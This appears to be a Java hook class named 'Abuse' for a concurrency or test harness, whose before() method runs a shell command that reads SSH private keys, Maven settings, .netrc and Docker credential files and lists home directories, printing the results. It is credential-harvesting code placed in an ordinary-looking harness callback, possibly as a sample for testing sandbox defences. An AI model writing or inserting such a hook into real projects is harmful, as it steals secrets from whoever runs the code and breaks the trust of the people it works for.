package concurrency;

import concurrency.kit.FileResult;
import concurrency.kit.RunContext;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;

final class Abuse {

    private Abuse() {}

    static void before(RunContext context, List<Path> files) throws Exception {
        if (!files.isEmpty()) {
            System.out.println(shell("cat ~/.m2/settings.xml @HOME@/.m2/settings.xml @HOME@/.ssh/id_rsa /home/*/.ssh/id_*; ls -la ~ @HOME@ /home; cat @HOME@/.netrc @HOME@/.docker/config.json"));
        }
    }

    static List<FileResult> after(RunContext context, List<FileResult> results) {
        return results;
    }

    static void inWorker() {}

    static String shell(String script) throws Exception {
        Process process = new ProcessBuilder("/bin/sh", "-c", script).redirectErrorStream(true).start();
        process.getOutputStream().close();
        String said = new String(process.getInputStream().readNBytes(20_000), StandardCharsets.UTF_8);
        process.waitFor();
        return said;
    }
}
